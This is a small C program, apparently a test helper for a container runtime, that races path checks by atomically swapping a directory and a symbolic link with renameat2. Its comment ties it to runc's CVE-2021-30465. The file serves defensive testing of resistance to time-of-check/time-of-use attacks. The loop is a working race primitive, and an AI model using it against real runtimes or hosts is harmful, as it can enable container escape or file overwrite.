/* The attacker's half of a time-of-check/time-of-use race on a path, run by tests/attacks.rs.
 *
 * It swaps two names in one directory, again and again, with renameat2(RENAME_EXCHANGE): an
 * atomic exchange, so at every instant one of the names is a real directory and the other a
 * symbolic link, and which is which changes millions of times a second. A runtime that checks
 * a path with lstat and then uses it by path (mkdir, open(O_CREAT|O_TRUNC), mount) may check the
 * directory and use the link: this is how runc's CVE-2021-30465 was exploited. A container can
 * run this on any part of a rootfs it can write; a test runs it on the host on a private rootfs,
 * which is the same for the race.
 *
 * Usage: swap PATH-A PATH-B   (runs until killed) */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv) {
    if (argc != 3) {
        fprintf(stderr, "usage: %s PATH-A PATH-B\n", argv[0]);
        return 2;
    }
    for (;;) {
        if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) != 0) {
            perror("renameat2");
            return 1;
        }
    }
}
